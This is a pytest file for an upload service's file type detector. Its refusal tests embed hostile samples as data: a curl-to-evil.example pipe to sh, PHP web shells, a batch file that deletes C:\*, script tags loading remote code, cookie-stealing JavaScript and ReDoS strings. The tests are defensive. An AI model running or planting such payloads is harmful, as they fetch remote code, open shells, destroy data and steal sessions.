import io
import struct
import time
import zipfile
import zlib

import pytest

from caseapp.services.evidence import file_types as types
from caseapp.services.evidence.storage import HEAD_BYTES
from caseapp.services.evidence.file_types import ALLOWED_TYPES_TEXT, RefusedType, detect


def check(data: bytes, filename: str):
    """Detect the way the upload service does: head bytes plus a way to reopen the file."""
    return detect(data[:HEAD_BYTES], filename, open_full=lambda: io.BytesIO(data))


def refused(data: bytes, filename: str) -> RefusedType:
    with pytest.raises(RefusedType) as info:
        check(data, filename)
    assert ALLOWED_TYPES_TEXT in info.value.message  # the user learns what to send instead
    assert info.value.status == 415
    return info.value


# --- sample files -------------------------------------------------------------------------

def png_file() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1 pixel, 8-bit RGB
    pixels = zlib.compress(b"\x00\xff\x00\x00")  # filter byte + one red pixel
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels)
            + chunk(b"IEND", b""))


def jpeg_file() -> bytes:
    jfif = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + b"\xff\xe0" + struct.pack(">H", len(jfif) + 2) + jfif + b"\xff\xd9"


GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00"
       b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")


def webp_file() -> bytes:
    vp8l = b"\x2f\x00\x00\x00\x00\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
    body = b"WEBP" + b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l
    return b"RIFF" + struct.pack("<I", len(body)) + body


PDF = (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
       b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n"
       b"%%EOF\n")

CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.'
                 b'openxmlformats.org/package/2006/content-types"></Types>')


def zip_file(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_file(**extra: bytes) -> bytes:
    return zip_file({"[Content_Types].xml": CONTENT_TYPES,
                     "_rels/.rels": b"<Relationships/>",
                     "word/document.xml": b"<w:document><w:body>Root cause</w:body></w:document>",
                     **extra})


def xlsx_file() -> bytes:
    return zip_file({"[Content_Types].xml": CONTENT_TYPES,
                     "xl/workbook.xml": b"<workbook><sheets/></workbook>",
                     "xl/worksheets/sheet1.xml": b"<worksheet><sheetData/></worksheet>"})


def elf_file() -> bytes:
    ident = b"\x7fELF\x02\x01\x01\x00" + bytes(8)
    return ident + struct.pack("<HHI", 2, 0x3E, 1) + bytes(100)  # x86-64 executable


def pe_file() -> bytes:
    dos_header = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(46)
    dos_header += struct.pack("<I", 64)  # e_lfanew: the PE header follows
    return dos_header + b"PE\x00\x00" + struct.pack("<H", 0x8664) + bytes(100)


def macho_file() -> bytes:
    return struct.pack("<IiiIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0) + bytes(64)


def java_class_file() -> bytes:
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40)


EMAIL = (b"Return-Path: <seller-performance@amazon.com>\r\n"
         b"Received: from mail.example.com (mail.example.com [192.0.2.1])\r\n"
         b"\tby mx.agency.example with ESMTPS id abc123\r\n"
         b"From: Seller Performance <seller-performance@amazon.com>\r\n"
         b"To: owner@seller.example\r\n"
         b"Subject: Your Amazon selling account\r\n"
         b"Date: Tue, 5 Mar 2024 10:00:00 +0000\r\n"
         b"Message-ID: <123@amazon.com>\r\n"
         b"MIME-Version: 1.0\r\n"
         b"Content-Type: multipart/alternative; boundary=b1\r\n"
         b"\r\n--b1\r\nContent-Type: text/plain\r\n\r\nWe have deactivated your account.\r\n"
         b"--b1\r\nContent-Type: text/html\r\n\r\n<html><body><p>We have deactivated your "
         b"account.</p></body></html>\r\n--b1--\r\n")


# --- accepted types, decided by content ---------------------------------------------------

@pytest.mark.parametrize("data, expected", [
    (PDF, types.PDF),
    (png_file(), types.PNG),
    (jpeg_file(), types.JPEG),
    (GIF, types.GIF),
    (webp_file(), types.WEBP),
    (docx_file(), types.DOCX),
    (xlsx_file(), types.XLSX),
    (zip_file({"invoice.pdf": PDF, "photo.jpg": jpeg_file()}), types.ZIP),
    (EMAIL, types.EML),
])
def test_allowed_files_are_recognised_whatever_their_name(data, expected):
    for name in ("evidence", "evidence.bin", "invoice.pdf", "photo.png", "notes.txt"):
        assert check(data, name) == expected


def test_detected_types_carry_the_mime_type_to_serve():
    assert check(PDF, "x").content_type == "application/pdf"
    assert check(docx_file(), "x").content_type == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    assert check(xlsx_file(), "x").label == "Excel workbook"


def test_docx_and_xlsx_are_told_apart_from_the_head_alone_when_small():
    assert detect(docx_file(), "a.zip") == types.DOCX
    assert detect(xlsx_file(), "a.zip") == types.XLSX


def test_docx_whose_word_folder_lies_past_the_head_is_found_through_the_full_file():
    # [Content_Types].xml first, then 20 KiB of uncompressible media, then word/.
    data = zip_file({"[Content_Types].xml": CONTENT_TYPES,
                     "media/image1.png": bytes(range(256)) * 80,
                     "word/document.xml": b"<w:document/>"}, compression=zipfile.ZIP_STORED)
    assert len(data) > HEAD_BYTES
    assert check(data, "letter.docx") == types.DOCX


def test_zip_with_a_word_folder_but_no_office_manifest_is_a_plain_zip():
    assert check(zip_file({"word/notes.txt": b"hello"}), "notes.docx") == types.ZIP


def test_empty_zip_archive_is_a_zip():
    assert check(zip_file({}), "empty.zip") == types.ZIP


# --- text, CSV and email --------------------------------------------------------------------

@pytest.mark.parametrize("data", [
    "Root cause: a supplier shipped the wrong model. Café, Müller, 東京, 😀\n".encode(),
    b"Caf\xe9 receipt \x80 12.50 \x93paid in full\x94\r\n",  # Windows-1252 / Latin-1
    "\ufeffText saved by Notepad with a BOM\r\n".encode(),
    "Unicode text from Excel\tcolumn\n".encode("utf-16"),
    b"MZ Trading Co. invoice 1042\nTotal: 120.00 USD\n",  # starts like an .exe, is not
    b"import duties from China were paid by the supplier.\n",
    b"function of the returns team: refund within 2 days.\n",
    b"The listing used <b>bold</b> text and the word html in a bullet.\n",
    b'<?xml version="1.0"?><AmazonEnvelope><Message>OK</Message></AmazonEnvelope>\n',
    b"Subject: refund for order 123\n\nThe customer was refunded.\n",  # one header: a note
    b"Date: 3 March\nTo do: call seller support\n",
])
def test_text_is_plain_text(data):
    assert check(data, "notes.txt") == types.TEXT


@pytest.mark.parametrize("letter", ["é" * 5000, "東京の倉庫から発送しました。" * 400])
def test_long_text_cut_inside_a_character_by_the_head_limit_is_still_text(letter):
    data = letter.encode()
    assert len(data) > HEAD_BYTES
    for cut in (HEAD_BYTES - 1, HEAD_BYTES - 2, HEAD_BYTES):  # some cut a character in half
        assert detect(data[:cut], "letter.txt") == types.TEXT


@pytest.mark.parametrize("data", [
    b'order_id,sku,amount\n1001,"ABC, red",12.50\n1002,"multi\nline note",3.00\n',
    b"order_id;sku;amount\r\n1001;ABC;12,50\r\n1002;DEF;3,00\r\n",
    b"order_id\tsku\tamount\n1001\tABC\t12.50\n",
    b'sku,description\nB00X,"<p>Stainless steel bottle</p><br>500 ml"\n',
])
def test_csv_named_csv_with_a_consistent_delimiter_is_csv(data):
    assert check(data, "orders.csv") == types.CSV
    assert check(data, "ORDERS.CSV") == types.CSV


def test_csv_content_under_another_name_is_plain_text():
    assert check(b"order_id,sku\n1001,ABC\n", "orders.txt") == types.TEXT


def test_prose_named_csv_is_plain_text():
    data = b"Hello team,\nthe report is late, sorry.\nRegards\n"
    assert check(data, "report.csv") == types.TEXT


def test_large_csv_cut_mid_row_by_the_head_limit_is_still_csv():
    rows = b"".join(b"%d,SKU-%d,%d.99\n" % (i, i, i) for i in range(2000))
    data = b"order_id,sku,amount\n" + rows
    assert not data[:HEAD_BYTES].endswith(b"\n")
    assert check(data, "orders.csv") == types.CSV


def test_email_is_recognised_even_with_an_html_part_and_a_txt_name():
    assert check(EMAIL, "message.txt") == types.EML


def test_email_whose_headers_run_past_the_head_is_an_email():
    received = b"".join(b"Received: from relay%d.example.net by mx.example.com\r\n" % i
                        for i in range(300))
    data = b"From: a@example.com\r\nTo: b@example.com\r\n" + received + b"\r\nBody\r\n"
    assert len(data) > HEAD_BYTES
    assert check(data, "forwarded.eml") == types.EML


# --- refused --------------------------------------------------------------------------------

@pytest.mark.parametrize("data, name", [
    (elf_file(), "invoice.pdf"),
    (pe_file(), "screenshot.png"),
    (pe_file(), "setup.exe"),
    (macho_file(), "notes.txt"),
    (java_class_file(), "letter.docx"),
    (zip_file({"META-INF/MANIFEST.MF": b"Main-Class: App\n", "App.class": java_class_file()}),
     "invoices.zip"),
    (zip_file({"AndroidManifest.xml": b"\x03\x00", "classes.dex": b"dex\n035\x00"}), "a.zip"),
])
def test_programs_are_refused_even_when_renamed(data, name):
    error = refused(data, name)
    assert error.reason == "executable"
    assert "program" in error.message


@pytest.mark.parametrize("data", [
    b"<!DOCTYPE html><html><body>Pay here</body></html>",
    "\ufeff \n\t<!doctype HTML>\n<html lang=en>".encode(),
    b"<html><head><script>alert(document.cookie)</script></head></html>",
    b"<script>fetch('/api/v1/clients')</script>",
    b"<p>Hello</p>",
    b"<iframe src=https://evil.example></iframe>",
    b"<!-- saved from url=(0014)about:internet -->\n<div>x</div>",
    b"Dear team,\nplease see below.\n<script src=//evil.example/x.js></script>\n",
    "<html><body>UTF-16 page</body></html>".encode("utf-16"),
    b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><r/>',
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
])
def test_web_pages_are_refused_even_when_renamed(data):
    for name in ("invoice.pdf", "notes.txt", "orders.csv"):
        error = refused(data, name)
        assert error.reason == "html"
        assert "web page" in error.message


@pytest.mark.parametrize("data", [
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg width="10" height="10">'
    b"<script>alert(1)</script></svg>",
])
def test_svg_is_refused_even_when_renamed_png(data):
    error = refused(data, "screenshot.png")
    assert error.reason == "svg"
    assert "SVG" in error.message


@pytest.mark.parametrize("data", [
    b"#!/bin/sh\ncurl https://evil.example | sh\n",
    b"#!/usr/bin/env python3\nimport os\n",
    b"<?php system($_GET['c']); ?>",
    b"Invoice 1042\n<?php eval($_POST['x']); ?>\n",
    b"<% Response.Write(\"hi\") %>",
    b"@ECHO OFF\r\ndel /q C:\\*\r\n",
    b'"use strict";\nconst x = require("fs");\n',
    b"/*! bundle v1.0 */\n// helper\nfunction steal(){ return document.cookie }\n",
    b"(function () { new Image().src = 'x' })();\n",
    b"const token = localStorage.getItem('t');\n",
    b"import { send } from './mail.js';\n",
    b"module.exports = function () {};\n",
])
def test_scripts_are_refused_even_when_renamed(data):
    for name in ("notes.txt", "photo.jpg"):
        error = refused(data, name)
        assert error.reason == "script"
        assert "script" in error.message


def test_word_file_with_macros_is_refused():
    error = refused(docx_file(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "letter.docx")
    assert error.reason == "macros"
    assert "macros" in error.message


def test_damaged_zip_is_refused_when_the_full_file_can_be_read():
    data = b"PK\x03\x04" + b"\x14\x00" + bytes(200)  # a header and nothing readable after it
    error = refused(data, "invoices.zip")
    assert error.reason == "damaged"


@pytest.mark.parametrize("data", [
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),  # old binary .doc / .xls
    b"\x1f\x8b\x08\x00" + bytes(20),  # gzip
    b"Rar!\x1a\x07\x00" + bytes(20),
    bytes(range(256)) * 4,
    b"text with a NUL\x00 in it\n",
])
def test_unknown_binary_formats_are_refused(data):
    error = refused(data, "invoice.pdf")
    assert error.reason == "unknown"
    assert error.message.startswith("This file type is not accepted.")


def test_empty_file_is_refused_with_a_clear_message():
    error = refused(b"", "invoice.pdf")
    assert error.reason == "empty"
    assert "empty" in error.message


def test_refusal_message_names_every_allowed_type():
    message = refused(elf_file(), "x").message
    for kind in ("PDF", "PNG", "JPEG", "GIF", "WebP", "plain text", "CSV", ".docx", ".xlsx",
                 ".eml", "ZIP"):
        assert kind in message


@pytest.mark.parametrize("data", [
    b"function" + b" " * 8184,
    b"import " + b" " * 8185,
    b"async " + b" \n" * 4093,
    b"import a" + b" ," * 4092,
    b"/*" + b"a" * 8190,
    b"<!doctype " * 819,
    b"From: a\n" + b"//\n" * 2728,
])
def test_hostile_text_is_classified_quickly(data):
    """Backtracking patterns would let one crafted upload hold a worker for minutes."""
    started = time.perf_counter()
    try:
        detect(data[:HEAD_BYTES], "x.csv")
    except RefusedType:
        pass
    assert time.perf_counter() - started < 1.0
